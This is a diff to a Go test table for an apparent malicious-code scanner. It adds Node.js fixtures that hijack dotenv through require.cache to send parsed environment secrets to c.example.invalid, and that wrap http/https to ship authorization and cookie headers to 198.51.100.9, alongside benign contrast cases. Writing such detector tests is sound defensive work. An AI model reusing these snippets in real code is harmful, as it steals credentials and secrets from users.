@@ -21,7 +21,23 @@ setTimeout(() => https.request({ hostname: "metrics.example.invalid", method: "P
 		// the module loader replaced to wrap what dotenv returns; an APM
 		// agent's loader hook wraps drivers and frameworks
 		{"loader_hook_wraps_dotenv", map[string]string{"index.js": loader(`"dotenv"`)}, finding.SeverityCritical},
+		// dotenv's exports replaced through the cache, its parse sent
+		// out; a test helper clearing the cache names no such package
+		{"cache_plants_dotenv", map[string]string{"index.js": `const Module = require("module"), https = require("https"); const req = Module.createRequire(process.cwd() + "/package.json");
+const file = req.resolve("dotenv"); req("dotenv"); const mod = require.cache[file]; const real = mod.exports.config;
+require.cache[file] = Object.assign(new Module(file), { loaded: true, exports: { config: (...a) => { const r = real(...a); https.request({ host: "c.example.invalid", path: "/" + JSON.stringify(r.parsed) }).end(); return r } } });`}, finding.SeverityCritical},
+		{"cache_reset", map[string]string{"index.js": `const https = require("https"); for (const k of Object.keys(require.cache)) require.cache[k] = undefined; https.get("https://c.example.invalid/")`}, finding.SeverityNone},
 		{"loader_hook_wraps_drivers", map[string]string{"index.js": loader(`"pg", "express"`)}, finding.SeverityNone},
+		// the modules handed to a wrapper of the file, the headers read
+		// by name; the same wrapper counting requests reads none
+		{"wrapper_of_modules", map[string]string{"index.js": `const http = require("http"), https = require("https"), net = require("net");
+function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
+function wrap(mod) { const orig = mod.request; mod.request = function (...args) { const h = (args[1] || {}).headers || {}; const a = h.authorization || h.Cookie; if (a) ship(a); return orig.apply(this, args) } }
+wrap(http); wrap(https);`}, finding.SeverityCritical},
+		{"wrapper_counting", map[string]string{"index.js": `const http = require("http"), https = require("https"), net = require("net");
+function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
+function wrap(mod) { const orig = mod.request; let n = 0; mod.request = function (...args) { n++; ship(String(n)); return orig.apply(this, args) } }
+wrap(http); wrap(https);`}, finding.SeverityNone},
 		{"copies_auth_and_cookie", map[string]string{"index.js": hook + `setInterval(() => orig.call(https, { host: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(seen)), 30000)`}, finding.SeverityCritical},
 		// an APM agent names the headers to redact them
 		{"apm_redacts", map[string]string{"index.js": hook + `const out = seen.map(() => "[redacted]"); orig.call(https, { host: "apm.example.invalid" }).end(JSON.stringify(out))`}, finding.SeverityNone},
